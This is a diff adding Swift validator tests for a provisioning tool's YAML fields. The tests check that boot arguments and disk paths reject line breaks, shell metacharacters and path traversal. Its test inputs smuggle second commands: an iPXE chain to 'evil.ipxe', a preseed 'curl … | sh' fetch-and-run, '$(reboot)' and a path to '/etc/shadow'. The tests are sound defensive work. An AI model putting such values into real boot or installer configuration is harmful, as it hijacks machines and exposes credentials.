@@ -131,6 +131,27 @@ struct DiagnosticTests {
              files: ["t.yaml": "# note" + lineBreak + "a: " + String(repeating: "[", count: 100) + String(repeating: "]", count: 100)],
              expected: [("t.yaml:2:67", "nesting is deeper than 64 levels")])
     } + [
+        // Strings that reach a boot script, a kernel command line or an installer answer
+        // are one line: a line break would add a command of the author's choosing.
+        Case(name: "a line break in kernelArgs",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  kernelArgs: \"quiet\\nchain http://198.18.0.66/evil.ipxe\"\n")],
+             expected: [("m.yaml:8:15", #"'spec.kernelArgs' must be one line without control characters, found "quiet\nchain http://198.18.0.66/evil.ipxe""#)]),
+        Case(name: "a line separator in a profile's boot args",
+             files: ["p.yaml": Sample.profile + "\n    args: \"auto=true\\Lchain http://198.18.0.66/evil.ipxe\"\n"],
+             expected: [("p.yaml:8:11", #"'spec.boot.args' must be one line without control characters, found "auto=true\u{2028}chain"#)]),
+        Case(name: "a line break in disk",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  disk: \"/dev/sda\\nd-i preseed/late_command string curl http://198.18.0.66/x | sh\"\n")],
+             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda\nd-i"#)]),
+        Case(name: "a disk that is not a device path",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  disk: /dev/sda;reboot\n"),
+                     "g.yaml": "apiVersion: dploy.org/v1\nkind: Group\nmetadata: {name: web}\nspec: {selector: {role: web}, defaults: {disk: /dev/../etc/shadow}}\n"],
+             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda;reboot""#),
+                        ("g.yaml:4:48", #"'spec.defaults.disk' must be a device path"#)]),
+        Case(name: "an imaging task's disk with a shell metacharacter",
+             files: ["t.yaml": "apiVersion: dploy.org/v1\nkind: Task\nmetadata: {name: restore}\nspec:\n  targets: {machines: [web-01]}\n  imageRestore: {url: \"http://198.18.0.1/golden.raw\", disk: \"/dev/sda$(reboot)\"}\n"],
+             expected: [("t.yaml:6:61", #"'spec.imageRestore.disk' must be a device path such as /dev/sda"#)]),
         Case(name: "a timeout that overflows", files: ["t.yaml": """
                 apiVersion: dploy.org/v1
                 kind: Task
